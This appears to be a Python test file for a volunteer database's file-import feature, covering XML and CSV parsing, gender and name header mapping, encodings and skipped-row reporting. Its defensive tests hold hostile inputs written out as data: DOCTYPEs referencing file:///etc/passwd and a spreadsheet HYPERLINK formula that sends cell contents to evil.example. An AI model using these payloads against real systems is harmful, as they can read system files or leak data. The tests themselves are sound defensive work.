"""What a fresh tester found in the imports (report t16): VEF shapes with several records,
VEF language levels and sex, gender, Arabic name headers, DTDs, encodings, formulas, title
rows, skipped rows named."""

from __future__ import annotations

import re
from datetime import date
from pathlib import Path

import pytest
import sqlalchemy as sa

from aljisr.imports import reading
from aljisr.imports.mapping import automatic_mapping
from aljisr.imports.values import parse_gender
from aljisr.volunteers.models import LanguageLevel, Volunteer

DATA = Path(__file__).parent / "data"
MAX = 20 * 1024 * 1024

RECORD = """<{tag}><firstname>{first}</firstname><lastname>{last}</lastname><sex>{sex}</sex>
<birthdate>{born}</birthdate><nationality>{country}</nationality><email>{email}</email>
<language1>{lang}</language1><language1level>{level}</language1level>
<language2>English</language2><language2level>B1</language2level>
<motivation>Teaching</motivation><choice1>MA-AJ-0726</choice1></{tag}>"""

PEOPLE = [
    dict(first="Lena", last="Schmidt", sex="F", born="1998-04-01", country="DEU",
         email="lena@example.de", lang="German", level="native"),
    dict(first="Marco", last="Rossi", sex="M", born="2000-01-15", country="ITA",
         email="marco@example.it", lang="Italian", level="C2"),
    dict(first="Aiko", last="Tanaka", sex="F", born="2000-12-03", country="JP",
         email="aiko.tanaka@example.jp", lang="Japanese", level="C2"),
]


def _vef(root: str, tag: str, people=PEOPLE) -> bytes:
    records = "\n".join(RECORD.format(tag=tag, **person) for person in people)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<{root}>\n{records}\n</{root}>'.encode()


def _read(name: str, data: bytes, **kw):
    return reading.read_table(name, data, max_bytes=MAX, **kw)


# --- 1. VEF shapes ------------------------------------------------------------------------------


@pytest.mark.parametrize(("root", "tag"), [("vef", "record"), ("vef", "volunteer"),
                                            ("vefs", "vef"), ("export", "application")])
def test_every_record_of_a_vef_file_is_a_row(app, root, tag):
    table = _read("many.xml", _vef(root, tag))
    assert "firstname" in table.headers and tag not in table.headers
    assert [row[table.headers.index("lastname")] for row in table.rows] == [
        "Schmidt", "Rossi", "Tanaka"]
    assert table.row_numbers == [1, 2, 3]


def test_one_plato_vef_is_one_row(app):
    table = _read("one.xml", RECORD.format(tag="vef", **PEOPLE[0]).encode())
    assert len(table.rows) == 1 and table.rows[0][table.headers.index("firstname")] == "Lena"


def test_vef_records_nested_in_a_wrapper_are_found(app):
    data = (b"<export><meta><sender>SCI</sender></meta><records>"
            + b"".join(RECORD.format(tag="record", **p).encode() for p in PEOPLE[:2])
            + b"</records></export>")
    table = _read("nested.xml", data)
    assert [row[table.headers.index("firstname")] for row in table.rows] == ["Lena", "Marco"]


# --- 2. VEF levels, sex, choices --------------------------------------------------------------


def test_a_vef_with_records_imports_each_volunteer_with_levels_and_gender(app, db, tmp_path):
    path = tmp_path / "vef_multi.xml"
    path.write_bytes(_vef("vef", "record"))
    result = app.test_cli_runner().invoke(args=["volunteers", "import", str(path)])
    assert result.exit_code == 0, result.output
    people = {v.full_name: v for v in db.session.scalars(sa.select(Volunteer))}
    assert sorted(people) == ["Aiko Tanaka", "Lena Schmidt", "Marco Rossi"]
    lena = people["Lena Schmidt"]
    assert lena.gender == "female" and people["Marco Rossi"].gender == "male"
    assert lena.language_levels() == {"de": LanguageLevel.NATIVE, "en": LanguageLevel.B1}
    assert lena.date_of_birth == date(1998, 4, 1)
    assert "choice1: MA-AJ-0726" in lena.notes  # kept, not dropped


def test_vef_level_headers_both_spellings(app):
    assert automatic_mapping(["language1", "language1level", "language2", "langlevel2",
                              "language3", "language3level", "sex"]) == [
        "language_1", "level_1", "language_2", "level_2", "language_3", "level_3", "gender"]


# --- 3. gender ----------------------------------------------------------------------------------


@pytest.mark.parametrize("header", ["Sexe", "Sexo", "Geschlecht", "الجنس", "Gender", "sex"])
def test_gender_headers_are_recognised(app, header):
    assert automatic_mapping(["Nom", header]) == ["last_name", "gender"]


@pytest.mark.parametrize(("text", "gender"), [
    ("M", "male"), ("F", "female"), ("femme", "female"), ("Homme", "male"), ("W", "female"),
    ("mujer", "female"), ("männlich", "male"), ("ذكر", "male"), ("أنثى", "female"),
    ("Female", "female"), ("autre", "other"), ("", None)])
def test_gender_values_are_normalised(app, text, gender):
    assert parse_gender(text) == gender


def test_an_unknown_gender_is_refused_with_a_message(app):
    with pytest.raises(ValueError, match="not a gender"):
        parse_gender("zebra")


def test_a_gender_column_is_imported(app, db, tmp_path):
    path = tmp_path / "fr.csv"
    path.write_text("Prénom;Nom;Sexe\nAmélie;Lefèvre;F\nKarim;Bennani;H\n", encoding="utf-8")
    result = app.test_cli_runner().invoke(args=["volunteers", "import", str(path)])
    assert result.exit_code == 0, result.output
    genders = dict(db.session.execute(sa.select(Volunteer.full_name, Volunteer.gender)).all())
    assert genders == {"Amélie Lefèvre": "female", "Karim Bennani": "male"}


# --- 4. Arabic first name ---------------------------------------------------------------------


def test_arabic_and_other_name_headers_are_recognised(app):
    assert automatic_mapping(["الاسم الأول", "اسم العائلة", "الجنس"]) == [
        "first_name", "last_name", "gender"]
    assert automatic_mapping(["Vorname", "Nachname"]) == ["first_name", "last_name"]
    assert automatic_mapping(["Nombre", "Apellidos"]) == ["first_name", "last_name"]
    assert automatic_mapping(["Prénoms", "Nom de famille"]) == ["first_name", "last_name"]


# --- 6. DTDs ------------------------------------------------------------------------------------


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE vef SYSTEM "file:///etc/passwd">',
    '<!DOCTYPE vef PUBLIC "-//X//DTD VEF//EN" "http://example.org/vef.dtd">',
    "<!DOCTYPE vef>"])
def test_a_vef_with_any_dtd_is_refused(app, doctype):
    data = f'<?xml version="1.0"?>\n{doctype}\n'.encode() + RECORD.format(
        tag="vef", **PEOPLE[0]).encode()
    with pytest.raises(reading.ReadError, match="such files are refused"):
        _read("dtd.xml", data)


# --- 7. cp1252 against cp1250 -------------------------------------------------------------------


def test_a_short_french_windows_file_is_read_as_cp1252(app):
    """Three French rows saved by Excel (Windows-1252): charset-normalizer alone says
    cp1250, which reads è as č."""
    data = (DATA / "volunteers-fr-cp1252-short.csv").read_bytes()
    from charset_normalizer import from_bytes

    assert from_bytes(data).best().encoding == "cp1250"  # what the fix is for
    table = _read("upd.csv", data)
    assert table.encoding == "cp1252"
    assert [row[1] for row in table.rows] == ["Lefèvre-Modifiée", "Dupré", "Noël"]


def test_a_polish_windows_file_stays_cp1250(app):
    data = ("Imię;Nazwisko\r\nŁucja;Kołodziej\r\nMałgorzata;Dąbrowska\r\n"
            "Żaneta;Różańska\r\n").encode("cp1250")
    table = _read("pl.csv", data)
    assert table.encoding == "cp1250"
    assert [row[1] for row in table.rows] == ["Kołodziej", "Dąbrowska", "Różańska"]


def _upload(client, name, data):
    import io

    response = client.post("/imports/", data={"file": (io.BytesIO(data), name),
                                              "organisation_id": ""},
                           content_type="multipart/form-data")
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    return int(response.headers["Location"].split("/")[2])


def test_the_preview_names_the_vef_fields_not_imported(as_role, db):
    client, _user = as_role("coordinator")
    data = _vef("vef", "record").replace(b"<sex>", b"<hobby>x</hobby><sex>")
    batch_id = _upload(client, "vef_multi.xml", data)
    text = client.get(f"/imports/{batch_id}/preview").get_data(as_text=True)
    assert "3 rows can be imported" in text
    assert 'id="unused-columns"' in text and "<bdi>hobby</bdi>" in text
    assert "<bdi>sex</bdi>" not in text


def test_half_a_name_is_said_on_the_mapping_page_and_refused(as_role, db):
    """The tester's ar.csv with a first-name header the app does not know: the last names
    alone would have been imported as the volunteers' names."""
    client, _user = as_role("coordinator")
    data = ("الاسم المعطى,اسم العائلة,تاريخ الميلاد\nليلى,بنعلي,1999-01-02\n"
            "يوسف,العلوي,2000-03-04\n").encode()
    batch_id = _upload(client, "ar.csv", data)
    page = client.get(f"/imports/{batch_id}/options").get_data(as_text=True)
    assert 'id="half-name"' in page and "Only the last names are imported" in page
    refused = client.post(f"/imports/{batch_id}/options", data={
        "encoding": "utf-8", "delimiter": ",", "date_order": "",
        "targets-0": "", "targets-1": "last_name", "targets-2": "date_of_birth"})
    assert refused.status_code == 422
    assert "Only the last names are imported" in refused.get_data(as_text=True)
    chosen = client.post(f"/imports/{batch_id}/options", data={
        "encoding": "utf-8", "delimiter": ",", "date_order": "",
        "targets-0": "first_name", "targets-1": "last_name", "targets-2": "date_of_birth"})
    assert chosen.status_code == 302
    assert client.post(f"/imports/{batch_id}/preview").status_code == 302
    names = set(db.session.scalars(sa.select(Volunteer.full_name)))
    assert names == {"ليلى بنعلي", "يوسف العلوي"}


def test_a_single_name_column_may_be_taken_as_full_names(as_role, db):
    client, _user = as_role("coordinator")
    batch_id = _upload(client, "x.csv", b"Nom,Ville\nAmina Tazi,Fes\nKarim Idrissi,Rabat\n")
    chosen = client.post(f"/imports/{batch_id}/options", data={
        "encoding": "utf-8", "delimiter": ",", "date_order": "",
        "targets-0": "full_name", "targets-1": ""})
    assert chosen.status_code == 302


# --- 5. rows not imported named ---------------------------------------------------------------


def test_skipped_rows_are_named_on_the_result_page(as_role, db):
    from tests.support import factories

    client, _user = as_role("coordinator")
    known = factories.volunteer(full_name="Amina Tazi", email="amina@example.ma")
    db.session.commit()
    data = (b"Name,Email,Date of birth\n"
            b"Yanis Haddad,yanis@example.fr,1980-07-21\n"      # row 2: added
            b"Amina Tazi,amina@example.ma,\n"                  # row 3: like the register
            b"Yanis Haddad,,1980-07-21\n"                      # row 4: same as row 2
            b"Bad Row,not-an-address,\n")             # row 5: errors
    batch_id = _upload(client, "dups.csv", data)
    preview = client.get(f"/imports/{batch_id}/preview").get_data(as_text=True)
    assert 'id="same-in-file"' in preview and "1 row is the same person" in preview
    row4 = preview.split('id="row-4"')[1].split("</tr>")[0]
    assert "Same person as row 2" in row4 and "Ready" not in row4
    assert client.post(f"/imports/{batch_id}/preview").status_code == 302
    page = client.get(f"/imports/{batch_id}").get_data(as_text=True)
    table = page.split('id="batch-left-out"')[1]
    assert [int(n) for n in re.findall(r'id="left-out-(\d+)"', table)] == [3, 4, 5]
    assert 'id="left-out-2"' not in table
    assert "like a volunteer already in the register" in table.split('id="left-out-3"')[1]
    assert f"/volunteers/{known.id}" in table
    assert "the same person as row 2 of the file" in table.split('id="left-out-4"')[1]
    assert "the row had errors" in table.split('id="left-out-5"')[1]
    assert "Volunteer added" in page.split('id="batch-records"')[1]


# --- 9. a title row above the column titles ---------------------------------------------------


@pytest.mark.parametrize("name", ["title-row-libreoffice.xlsx", "title-row-libreoffice.ods"])
def test_a_workbook_title_row_is_passed_over(app, name):
    """Row 1 a title merged over the columns (LibreOffice), the column titles in row 2."""
    table = _read(name, (DATA / name).read_bytes())
    assert table.headers == ["Prénom", "Nom", "Courriel", "Date de naissance", "Nationalité",
                             "Sexe"]
    assert table.row_numbers[0] == 3 and table.rows[0][0] == "Mérgé"
    assert "Row 1 looks like a title: the column titles were taken from row 2." in table.notes
    assert automatic_mapping(table.headers)[-1] == "gender"


# --- 8. formula text in a CSV --------------------------------------------------------------------


def test_formula_text_in_a_csv_is_refused_in_text_fields(app, db, tmp_path):
    path = tmp_path / "formulas.csv"
    path.write_text(
        "First name,Last name,Phone,Notes\n"
        "=1+1,Formula,,\n"
        '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",Hyper,,\n'
        "@SUM(1+1),+Plus,,\n"
        "Ana,Silva,+351 912 345 678,- vegetarian\n"
        "Omar,'=Haddad,,\n", encoding="utf-8")
    result = app.test_cli_runner().invoke(args=["volunteers", "import", str(path),
                                                "--dry-run"])
    assert "2 valid row(s), 3 with errors" in result.output, result.output
    assert "“=1+1” starts with “=”: a spreadsheet would run it as a formula" in result.output
    assert "“+Plus” starts with “+”" in result.output
    assert "would create Ana Silva" in result.output
    assert "would create Omar =Haddad" in result.output  # an apostrophe says it is meant


@pytest.mark.parametrize(("cell", "formula"), [
    ("=1+1", True), ("@SUM(A1)", True), ("+Plus", True), ("-2+3*cmd", True),
    ("+33 6 12 34 56 78", False), ("-3", False), ("- vegetarian", False), ("-", False),
    ("Ana", False), ("", False)])
def test_looks_like_formula(cell, formula):
    assert reading.looks_like_formula(cell) is formula
